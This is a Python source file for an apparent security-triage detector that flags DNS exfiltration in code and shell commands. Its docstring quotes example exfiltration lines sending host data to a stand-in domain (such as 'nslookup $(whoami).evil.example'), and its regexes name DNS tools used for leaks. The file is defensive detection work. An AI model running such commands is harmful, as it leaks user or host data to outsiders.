"""DNS exfiltration: host data or encoded chunks placed in the labels of a name that is
then resolved (``socket.gethostbyname(f"{data}.evil.example")``, dnspython queries, raw
UDP packets to port 53 through a local helper, ``nslookup $(whoami).evil.example``).
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from triage.indicators.base import Detector, FileContext, detector
from triage.indicators.hosts import defang
from triage.indicators.network_calls import NetCall, facts
from triage.indicators.network_flow import MAX_DEPTH, Flow, clamp, context_bonus
from triage.model import Phase, Signal, Statement

_ENCODERS = ("hex", "hexlify", "b64encode", "b32encode", "urlsafe_b64encode", "b16encode",
             "encodebytes", "quote")
_DOMAIN_TAIL = re.compile(r"(?i)\.(?:[a-z0-9-]{1,63}\.)*[a-z0-9-]{1,63}\.[a-z]{2,24}\.?$")
_SHELL_DNS = re.compile(r"(?i)\b(nslookup|dig|host|ping)\s+[^\n;|&]*(\$\(|`|%\w+%|\$\w+)"
                        r"[^\n;|&]*\.[a-z]{2,24}\b")


def _encoded(flow: Flow, expr: ast.AST, st: Statement, depth: int = 0) -> bool:
    if depth > MAX_DEPTH:
        return False
    for sub in ast.walk(expr):
        if isinstance(sub, ast.Call) and flow.call_name(sub).rsplit(".", 1)[-1] in _ENCODERS:
            return True
        if isinstance(sub, ast.Name):
            for a in flow.assignments(sub.id, st):
                if a.value is not expr and _encoded(flow, a.value, a.statement, depth + 1):
                    return True
    return False


def _name_expr(nc: NetCall) -> ast.expr | None:
    if nc.kind == "dns":
        return nc.dest_expr
    port53 = any(e.port == 53 for e in nc.endpoints) or (nc.dest or "").endswith(":53")
    if nc.kind == "wrapper" and ("dns" in nc.api.lower() or port53):
        return next((e for role, e in nc.payload if role == "data"), None)
    return None


@detector("exfiltration_dns", "code_exfiltration_dns")
def dns_exfiltration(ctx: FileContext) -> Iterator[Signal]:
    """Names assembled from host data or encoded chunks, then resolved."""
    nf = facts(ctx)
    seen: set[str] = set()
    for nc in nf.calls:
        expr = _name_expr(nc)
        if expr is None or nc.statement.id in seen:
            continue
        text = nf.flow.text(expr, nc.statement)
        if not text or "{}" not in text or not _DOMAIN_TAIL.search(text):
            continue
        taint = nf.flow.source_of(expr, nc.statement)
        encoded = _encoded(nf.flow, expr, nc.statement)
        if taint or encoded:
            base = 0.8
        elif nc.statement.phase in (Phase.INSTALL, Phase.STARTUP):
            base = 0.45
        else:
            continue
        carried = taint or ("encoded data" if encoded else "computed labels")
        seen.add(nc.statement.id)
        yield ctx.signal("code_exfiltration_dns", nc.statement,
                         f"{nc.api} resolves `{defang(text[:80])}`, a name built from "
                         f"{carried}", confidence=clamp(base + context_bonus(
                             nc.statement, ctx.source.path)), detector="exfiltration_dns")
    for sh in nf.shells:
        m = _SHELL_DNS.search(sh.command)
        if m and sh.statement.id not in seen:
            seen.add(sh.statement.id)
            yield ctx.signal("code_exfiltration_dns", sh.statement,
                             f"shell command `{defang(m.group(0)[:60])}` leaks data in a DNS "
                             "name", confidence=clamp(0.75 + context_bonus(
                                 sh.statement, ctx.source.path)), detector="exfiltration_dns")


DETECTORS: tuple[Detector, ...] = (dns_exfiltration,)
